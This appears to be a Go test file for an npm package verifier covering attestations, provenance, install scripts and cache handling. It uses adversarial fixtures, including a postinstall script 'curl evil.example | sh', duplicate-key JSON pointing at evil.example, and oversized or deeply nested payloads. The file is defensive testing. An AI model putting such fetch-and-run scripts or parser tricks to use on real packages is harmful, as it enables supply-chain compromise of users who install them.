package npm_test

import (
	"context"
	"encoding/json"
	"io"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	lockfile "plimsoll.example/sbom/npm"
	"plimsoll.example/verify"
	"plimsoll.example/verify/npm"
	"plimsoll.example/verify/npm/npmtest"
)

// TestOneAnswerStopsNothing: whatever a registry answers about one package, there is a
// result about each, and offline it is the same.
func TestOneAnswerStopsNothing(t *testing.T) {
	const bar = "-- bar@1.0.0/package/package.json --\n{\"name\": \"bar\", \"version\": \"1.0.0\"}\n-- bar@1.0.0/registry.json --\n{\"provenance\": {\"repository\": \"https://github.com/acme/bar\"}, \"trustedPublisher\": true}\n"
	nested := func(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }
	packument := func(dist string) string {
		return `{"name":"foo","versions":{"1.0.0":{"name":"foo","version":"1.0.0","dist":` + dist + `}},"time":{"1.0.0":"2026-03-01T00:00:00Z"}}`
	}
	const attestations = "/-/npm/v1/attestations/foo@1.0.0"
	for name, c := range map[string]struct {
		path, body string
		code       verify.Code
	}{
		"attestations, 9,990 deep":           {attestations, `{"attestations":` + nested(9990) + `}`, verify.CodeAnswerMalformed},
		"attestations, 9,996 deep":           {attestations, `{"attestations":` + nested(9996) + `}`, verify.CodeAnswerMalformed},
		"attestations, 9,998 deep":           {attestations, `{"attestations":` + nested(9998) + `}`, verify.CodeAnswerMalformed},
		"beside the attestations, deep":      {attestations, `{"attestations":[],"x":` + nested(9998) + `}`, verify.CodeAnswerMalformed},
		"attestations, 9 MB when indented":   {attestations, `{"attestations":[` + strings.Repeat("[],", 900_000) + `[]]}`, verify.CodeAnswerMalformed},
		"attestations, 15 MB":                {attestations, `{"attestations":[],"x":"` + strings.Repeat("x", 15<<20) + `"}`, verify.CodeAnswerMalformed},
		"attestations, almost 16 MB":         {attestations, `{"attestations":[],"x":"` + strings.Repeat("x", 16<<20-100) + `"}`, verify.CodeAnswerMalformed},
		"attestations, not UTF-8":            {attestations, "{\"attestations\":[],\"x\":\"\xff\"}", verify.CodeAnswerMalformed},
		"attestations, empty":                {attestations, "", verify.CodeAnswerMalformed},
		"attestations, white space":          {attestations, " \n", verify.CodeAnswerMalformed},
		"attestations, null":                 {attestations, "null", verify.CodeAnswerMalformed},
		"attestations, text":                 {attestations, `"{\"attestations\":[]}"`, verify.CodeAnswerMalformed},
		"metadata, announced 9,990 deep":     {"/foo", packument(`{"attestations":{"x":` + nested(9990) + `}}`), verify.CodeRegistrySignatureMissing},
		"metadata, announced 9,993 deep":     {"/foo", packument(`{"attestations":{"x":` + nested(9993) + `}}`), verify.CodeRegistrySignatureMissing},
		"metadata, announced in no UTF-8":    {"/foo", packument("{\"attestations\":{\"x\":\"\xff\"}}"), verify.CodeAnswerMalformed},
		"metadata, a publisher not in UTF-8": {"/foo", strings.Replace(packument("{}"), `"dist"`, "\"_npmUser\":{\"trustedPublisher\":{\"x\":\"\xff\"}},\"dist\"", 1), verify.CodeAnswerMalformed},
		"metadata, long":                     {"/foo", packument(`{"attestations":{"x":"` + strings.Repeat("x", 17<<20) + `"}}`), verify.CodeAnswerMalformed},
		"metadata, null":                     {"/foo", "null", verify.CodeAnswerMalformed},
		"metadata, a list":                   {"/foo", "[]", verify.CodeAnswerMalformed},
		"metadata, empty":                    {"/foo", "", verify.CodeAnswerMalformed},
		"metadata of another name":           {"/foo", strings.Replace(packument("{}"), "foo", "Foo", 1), verify.CodeAnswerMalformed},
		"metadata, a time that is none":      {"/foo", strings.Replace(packument("{}"), "2026-03-01T00:00:00Z", "2026-02-31T00:00:00Z", 1), verify.CodeAnswerMalformed},
		"metadata without a time":            {"/foo", strings.Replace(packument("{}"), `"1.0.0":"2026-03-01T00:00:00Z"`, "", 1), verify.CodeRegistrySignatureMissing},
	} {
		t.Run(name, func(t *testing.T) {
			s := newScene(t, built+bar)
			s.registry.Misbehave(c.path, npmtest.Body([]byte(c.body)))
			report := s.check(s.lock("foo@1.0.0", "bar@1.0.0"))
			s.denies(report, "foo@1.0.0", c.code)
			s.holds(report, "bar@1.0.0")
		})
	}
	for _, status := range []int{401, 403, 410, 500} {
		for _, path := range []string{attestations, "/foo"} {
			s := newScene(t, built+bar)
			s.registry.Misbehave(path, npmtest.Status(status, 0, ""))
			report := s.check(s.lock("foo@1.0.0", "bar@1.0.0"))
			if r := result(t, report, "foo@1.0.0"); r.Outcome != npm.Undecided {
				t.Errorf("%s, %d: %v %v", path, status, r.Outcome, codes(report, "foo@1.0.0"))
			}
			s.holds(report, "bar@1.0.0")
		}
	}
}

// TestShrinkwrapInside: what a lockfile in a tarball says is in no check of this one.
func TestShrinkwrapInside(t *testing.T) {
	for name, c := range map[string]struct {
		says, there, fetched, denied bool
	}{
		"neither": {}, "said": {says: true, denied: true}, "there, and not said": {there: true, fetched: true},
		"said and there": {says: true, there: true, fetched: true, denied: true}, "said, and not there": {says: true, fetched: true},
	} {
		t.Run(name, func(t *testing.T) {
			packages := built
			if c.there {
				packages += "-- foo@1.0.0/package/Package-Lock.json --\n{\"lockfileVersion\": 3, \"packages\": {}}\n"
			}
			s := newScene(t, packages)
			lock := swap(t, s.lock("foo@1.0.0"), "node_modules/foo", func(e map[string]any) { e["hasShrinkwrap"] = c.says })
			project, err := lockfile.ParseLockfile("package-lock.json", lock)
			if err != nil {
				t.Fatal(err)
			}
			s.connect()
			if !c.fetched {
				s.inspector.Tarballs = nil
			}
			report, err := s.inspector.Project(t.Context(), project)
			if err != nil {
				t.Fatal(err)
			}
			if c.denied {
				s.denies(report, "foo@1.0.0", verify.CodeShrinkwrapInside)
			} else {
				s.holds(report, "foo@1.0.0")
			}
		})
	}
	s := newScene(t, built)
	lock := packagesOf(t, s.lock("foo@1.0.0"), func(p map[string]any) {
		p[""].(map[string]any)["dependencies"] = map[string]string{"foo": "1", "x": "https://elsewhere.example/x.tgz"}
		p["node_modules/x"] = map[string]any{"version": "1.0.0", "resolved": "https://elsewhere.example/x.tgz", "integrity": otherIntegrity, "hasShrinkwrap": true}
	})
	s.denies(s.check(lock), "x@1.0.0", verify.CodeShrinkwrapInside)
}

// TestInvalidWithoutDigest: that the lockfile has no digest is no way to have an invalid
// answer passed over, and a good one vouches for nothing.
func TestInvalidWithoutDigest(t *testing.T) {
	for name, c := range map[string]struct {
		answer func(s *scene, digest string) []byte
		code   verify.Code
	}{
		"a good one":        {good, ""},
		"an empty list":     {func(*scene, string) []byte { return []byte(`{"attestations":[]}`) }, verify.CodeAnswerMalformed},
		"no list":           {func(*scene, string) []byte { return []byte(`{}`) }, verify.CodeAnswerMalformed},
		"no provenance":     {answer(nil, drop), verify.CodeProvenanceMissing},
		"another version's": {answer(func(st map[string]any) { set(st, "pkg:npm/foo@1.0.1", "subject", 0, "name") }, nil), verify.CodeSubjectMismatch},
		"about different bytes": {func(s *scene, d string) []byte {
			return s.sigstore.Answer(publish(s, strings.Repeat("0", 128)), provenance(s, d))
		}, verify.CodeSubjectMismatch},
		"about no bytes": {answer(nil, func(st map[string]any) {
			set(st, map[string]any{"sha1": strings.Repeat("0", 40)}, "subject", 0, "digest")
		}), verify.CodeSubjectMismatch},
		"another repository": {answer(nil, workflow("repository", "https://github.com/acme/bar")), verify.CodeProvenanceMismatch},
		"a signature of nobody's": {func(s *scene, d string) []byte {
			return edit(t, good(s, d), func(a []any) []any { set(a, "AAAA", 0, "bundle", "dsseEnvelope", "signatures", 0, "sig"); return a })
		}, verify.CodeLogInvalid},
	} {
		t.Run(name, func(t *testing.T) {
			s := newScene(t, built)
			s.inspector.Policy = &verify.Policy{NPM: verify.NPMSettings{Codes: map[verify.Code]verify.Effect{verify.CodeIntegrityWeak: verify.Warn}}}
			lock := s.lock("foo@1.0.0")
			s.registry.Misbehave("/-/npm/v1/attestations/foo@1.0.0", npmtest.Body(c.answer(s, digestIn(t, lock, "node_modules/foo"))))
			report := s.check(swap(t, lock, "node_modules/foo", func(e map[string]any) { e["integrity"] = "sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=" }))
			r := result(t, report, "foo@1.0.0")
			if c.code != "" {
				s.denies(report, "foo@1.0.0", c.code)
			} else if r.Outcome != npm.Warned {
				t.Errorf("found %v %v", r.Outcome, codes(report, "foo@1.0.0"))
			}
			if r.Origin != nil || r.Level != 0 {
				t.Errorf("it vouches for bytes that nobody knows: %+v", r.Origin)
			}
		})
	}
}

// TestRepeatedInStatement: what is signed has each key once, or readers differ in what it
// says.
func TestRepeatedInStatement(t *testing.T) {
	raw := func(text string) json.RawMessage { return json.RawMessage(text) }
	subject := func(st map[string]any) {
		digest := toJSON(t, at(st, "subject", 0, "digest"))
		st["subject"] = []any{raw(`{"name": "pkg:npm/bar@1.0.0", "name": "pkg:npm/foo@1.0.0", "digest": ` + digest + `}`)}
	}
	digest := func(st map[string]any) {
		sum := at(st, "subject", 0, "digest", "sha512").(string)
		set(st, raw(`{"sha512": "`+strings.Repeat("0", 128)+`", "sha512": "`+sum+`"}`), "subject", 0, "digest")
	}
	repository := func(st map[string]any) {
		set(st, raw(`{"repository": "https://github.com/mallory/foo", "repository": "https://github.com/acme/foo"}`), "predicate", "buildDefinition", "externalParameters", "workflow")
	}
	for name, answer := range map[string]func(s *scene, digest string) []byte{
		"the subject's name, published":   answer(subject, nil),
		"the subject's name, built":       answer(nil, subject),
		"the subject's digest, published": answer(digest, nil),
		"the subject's digest, built":     answer(nil, digest),
		"the predicate's registry": answer(func(st map[string]any) {
			st["predicate"] = raw(`{"name": "foo", "version": "1.0.0", "registry": "https://evil.example", "registry": "` + at(st, "predicate", "registry").(string) + `"}`)
		}, nil),
		"the predicate's repository": answer(nil, repository),
	} {
		t.Run(name, func(t *testing.T) {
			s := newScene(t, built)
			lock := s.lock("foo@1.0.0")
			s.registry.Misbehave("/-/npm/v1/attestations/foo@1.0.0", npmtest.Body(answer(s, digestIn(t, lock, "node_modules/foo"))))
			s.denies(s.check(lock), "foo@1.0.0", verify.CodeStatementMalformed)
		})
	}
}

// TestScopedPurl: a scoped package's attestations have its one canonical purl.
func TestScopedPurl(t *testing.T) {
	s := newScene(t, "-- @scope/foo@1.0.0/package/package.json --\n{\"name\": \"@scope/foo\", \"version\": \"1.0.0\"}\n"+
		"-- @scope/foo@1.0.0/registry.json --\n{\"provenance\": {\"repository\": \"https://github.com/acme/foo\"}, \"trustedPublisher\": true}\n")
	lock := s.lock("@scope/foo@1.0.0")
	digest := digestIn(t, lock, "node_modules/@scope/foo")
	for purl, holds := range map[string]bool{
		"pkg:npm/%40scope/foo@1.0.0": true, "pkg:npm/%40scope%2Ffoo@1.0.0": false, "pkg:npm/%40scope%2ffoo@1.0.0": false, "pkg:npm/@scope/foo@1.0.0": false,
		"pkg:npm/%40Scope/foo@1.0.0": false, "pkg:npm/%40scope/foo@1.0.0?x": false, "pkg:npm/%40scope/%66oo@1.0.0": false, "pkg:npm/scope/foo@1.0.0": false,
	} {
		called := func(st map[string]any) { set(st, purl, "subject", 0, "name") }
		as := func(map[string]any) {}
		for _, in := range []struct{ publish, provenance func(map[string]any) }{{called, as}, {as, called}} {
			s.registry.Behave()
			s.registry.Misbehave("/-/npm/v1/attestations/", npmtest.Body(s.sigstore.Answer(s.sigstore.Publish("@scope/foo", "1.0.0", digest, s.base, made, in.publish),
				s.sigstore.Provenance("@scope/foo", "1.0.0", digest, npmtest.GitHub("acme/foo"), made, in.provenance))))
			if report := s.check(lock); holds {
				s.holds(report, "@scope/foo@1.0.0")
			} else {
				s.denies(report, "@scope/foo@1.0.0", verify.CodeSubjectMismatch)
			}
		}
	}
}

// TestEarlierDeleted: an earlier version's answer that is gone from an offline folder is
// no decision about this one, and not that it had nothing.
func TestEarlierDeleted(t *testing.T) {
	s := newScene(t, built+next("1.1.0", `{"user": "ci", "trustedPublisher": true, "maintainers": ["ann"]}`))
	lock := s.lock("foo@1.1.0")
	s.denies(s.check(lock), "foo@1.1.0", verify.CodeProvenanceLost)
	delete(s.saved, npm.FileName(npm.Package{Name: "foo", Version: "1.0.0"}))
	project, err := lockfile.ParseLockfile("package-lock.json", lock)
	if err != nil {
		t.Fatal(err)
	}
	again := *s.inspector
	again.Evidence = npm.Answers{Files: s.saved}
	report, err := again.Project(context.Background(), project)
	if err != nil {
		t.Fatal(err)
	}
	if r := result(t, report, "foo@1.1.0"); r.Outcome != npm.Undecided || !slices.ContainsFunc(r.Findings, func(f npm.Finding) bool { return f.Code == verify.CodeNoAnswer }) {
		t.Errorf("found %v %v", r.Outcome, codes(report, "foo@1.1.0"))
	}
}

// TestTimestampOfNobody: the scene's root knows no timestamp authority.
func TestTimestampOfNobody(t *testing.T) {
	for which := range 2 {
		s := newScene(t, built)
		lock := s.lock("foo@1.0.0")
		s.registry.Misbehave("/-/npm/v1/attestations/foo@1.0.0", npmtest.Edit(func(body []byte) []byte {
			return edit(t, body, func(a []any) []any {
				set(a, map[string]any{"rfc3161Timestamps": []any{map[string]any{"signedTimestamp": "AAAA"}}}, which, "bundle", "verificationMaterial", "timestampVerificationData")
				return a
			})
		}))
		s.denies(s.check(lock), "foo@1.0.0", verify.CodeTimeInvalid)
	}
}

// TestFileNames: two packages never share a file, also where capitals do not count, and
// every file can be written.
func TestFileNames(t *testing.T) {
	long := strings.Repeat("A", 200)
	seen := map[string]npm.Package{}
	for _, name := range []string{"fOo", "f!oo", "foo", "FOO", "@a/b", "@a/B", "@A/b", "a-b", "a%2fb", long, long + "a", "@a/" + long, strings.ToLower(long)} {
		for _, version := range []string{"1.0.0", "1.0.0-RC.1", "1.0.0-rc.1", "1.0.0-" + long, "1.0.0+" + long} {
			pkg := npm.Package{Name: name, Version: version}
			for _, file := range []string{npm.FileName(pkg), npm.TarballName(pkg)} {
				if other, there := seen[strings.ToLower(file)]; there && other != pkg {
					t.Errorf("%s and %s share %s", other, pkg, file)
				}
				if strings.ContainsAny(file, `/\:`) || strings.HasPrefix(file, ".") || len(file) > 255 {
					t.Errorf("%s: found %q (%d)", pkg, file, len(file))
				}
				seen[strings.ToLower(file)] = pkg
			}
		}
	}
}

// TestDamagedCache: a damaged entry of npm's cache is none, and is not kept either.
func TestDamagedCache(t *testing.T) {
	sum, err := npm.SHA512(otherIntegrity)
	if err != nil {
		t.Fatal(err)
	}
	cache := fstest.MapFS{"_cacache/content-v2/sha512/" + sum[:2] + "/" + sum[2:4] + "/" + sum[4:]: {Data: []byte("damaged")}}
	tarballs := &npm.SourcedTarballs{
		Sources: []npm.TarballSource{npm.CachedTarballs{Files: cache}},
		Save: func(name string, r io.Reader) (io.ReadCloser, error) {
			t.Errorf("%s is kept", name)
			return io.NopCloser(r), nil
		},
	}
	pkg := npm.Package{Name: "foo", Version: "1.0.0", Integrity: otherIntegrity}
	if contents, err := tarballs.Contents(context.Background(), pkg, ""); contents != nil || err != nil {
		t.Errorf("found %v, %v", contents, err)
	}
}

// TestScriptsTold: what runs at install, by the tarball and by the registry's metadata.
func TestScriptsTold(t *testing.T) {
	for name, c := range map[string]struct {
		manifest, files, metadata string
		differs                   bool
		found                     string // the scripts of the result
	}{
		"the same":               {`"scripts": {"postinstall": "node x.js"}`, "", `{}`, false, "postinstall"},
		"other words":            {`"scripts": {"postinstall": "curl evil.example | sh"}`, "", `{"scripts": {"postinstall": "node x.js"}}`, true, "postinstall"},
		"the folder of commands": {`"scripts": {"postinstall": "./node_modules/.bin/husky"}`, "", `{"scripts": {"postinstall": "husky"}}`, false, "postinstall"},
		"in the tarball only":    {`"scripts": {"postinstall": "node x.js"}`, "", `{"scripts": null, "hasInstallScript": null}`, true, "postinstall"},
		"in the metadata only":   {`"main": "x.js"`, "", `{"scripts": {"preinstall": "node x.js"}}`, true, ""},
		"another one":            {`"scripts": {"postinstall": "node x.js"}`, "", `{"scripts": {"postinstall": null, "install": "node x.js"}}`, true, "postinstall"},
		"of no moment":           {`"scripts": {"test": "node x.js", "prepare": "tsc"}`, "", `{"scripts": {"test": "node y.js"}}`, false, ""},
		"an implicit build":      {`"main": "x.js"`, "-- foo@1.0.0/package/binding.gyp --\n{}\n", `{"scripts": {"install": "node-gyp rebuild"}, "gypfile": true}`, false, "install (binding.gyp)"},
		"an implicit build, and none told": {`"main": "x.js"`, "-- foo@1.0.0/package/binding.gyp --\n{}\n", `{"scripts": null, "gypfile": null, "hasInstallScript": null}`, true,
			"install (binding.gyp)"},
		"a build that is given up": {`"gypfile": false`, "-- foo@1.0.0/package/binding.gyp --\n{}\n", `{"scripts": null, "gypfile": false, "hasInstallScript": null}`, false, ""},
	} {
		t.Run(name, func(t *testing.T) {
			s := newScene(t, "-- foo@1.0.0/package/package.json --\n{\"name\": \"foo\", \"version\": \"1.0.0\", "+c.manifest+"}\n"+c.files+
				"-- foo@1.0.0/registry.json --\n{\"metadata\": "+c.metadata+"}\n")
			// The lockfile may say what it likes.
			for _, lies := range []bool{true, false} {
				report := s.check(swap(t, s.lock("foo@1.0.0"), "node_modules/foo", func(e map[string]any) { e["hasInstallScript"] = lies }))
				if r := result(t, report, "foo@1.0.0"); strings.Join(r.Scripts.Names, " ") != c.found || r.Scripts.Source != "tarball" {
					t.Errorf("found %+v, expected %q", r.Scripts, c.found)
				}
				list := codes(report, "foo@1.0.0")
				if slices.Contains(list, "deny MANIFEST_SCRIPTS_DIFFER") != c.differs || slices.Contains(list, "warn INSTALL_SCRIPT") != (c.found != "") {
					t.Errorf("found %v", list)
				}
			}
		})
	}
}

// TestScriptsNew: without the tarball, what the metadata names is compared by its name,
// and what it does not name is only known to be there.
func TestScriptsNew(t *testing.T) {
	const gyp = "-- foo@1.0.0/package/package.json --\n{\"name\": \"foo\", \"version\": \"1.0.0\"}\n-- foo@1.0.0/package/binding.gyp --\n{}\n" +
		"-- foo@1.0.0/registry.json --\n{\"metadata\": {\"scripts\": {\"install\": \"node-gyp rebuild\"}, \"gypfile\": true}}\n"
	named := func(registryJSON string) string { return "-- foo@1.1.0/registry.json --\n" + registryJSON + "\n" }
	const some = `{"metadata": {"scripts": null, "hasInstallScript": true}}`
	for name, c := range map[string]struct {
		before, now string
		want        verify.Code
	}{
		"the same":                        {scripted("1.0.0", "postinstall"), scripted("1.1.0", "postinstall"), verify.CodeInstallScript},
		"another one":                     {scripted("1.0.0", "postinstall"), scripted("1.1.0", "preinstall"), verify.CodeInstallScriptNew},
		"another one, called install":     {scripted("1.0.0", "postinstall"), scripted("1.1.0", "install"), verify.CodeInstallScriptNew},
		"only that there are some":        {scripted("1.0.0", "postinstall"), scripted("1.1.0", "postinstall") + named(some), verify.CodeInstallScript},
		"only that there are some, of no": {scripted("1.0.0", "test"), scripted("1.1.0", "install") + named(some), verify.CodeInstallScriptNew},
		"the build that was implicit":     {gyp, scripted("1.1.0", "install"), verify.CodeInstallScript},
	} {
		t.Run(name, func(t *testing.T) {
			s := newScene(t, c.before+c.now)
			s.record("foo@1.0.0")
			s.connect()
			s.inspector.Tarballs = nil
			project, err := lockfile.ParseLockfile("package-lock.json", s.lock("foo@1.1.0"))
			if err != nil {
				t.Fatal(err)
			}
			report, err := s.inspector.Project(context.Background(), project)
			if err != nil {
				t.Fatal(err)
			}
			var found []verify.Code
			for _, f := range report.Packages[0].Findings {
				if f.Code == verify.CodeInstallScript || f.Code == verify.CodeInstallScriptNew {
					found = append(found, f.Code)
				}
			}
			if !slices.Equal(found, []verify.Code{c.want}) {
				t.Errorf("expected %s, found %v", c.want, found)
			}
		})
	}
}
